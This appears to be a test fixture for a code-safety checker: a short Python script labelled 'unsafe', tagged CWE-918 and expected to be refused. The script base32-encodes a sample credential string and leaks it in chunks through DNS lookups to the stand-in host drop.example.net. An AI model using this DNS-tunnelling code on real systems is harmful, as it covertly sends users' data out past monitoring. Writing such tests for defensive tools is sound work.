# label: unsafe
# cwe: CWE-918
# expect: refused import-not-granted socket
# why: sends data out in the names that it resolves

import base64
import socket


def send(data, domain):
    text = base64.b32encode(data).decode().rstrip("=").lower()
    for start in range(0, len(text), 30):
        try:
            socket.gethostbyname(f"{start}.{text[start:start + 30]}.{domain}")
        except OSError:
            pass


send(b"user=ann;role=admin", "drop.example.net")
print("looked up")
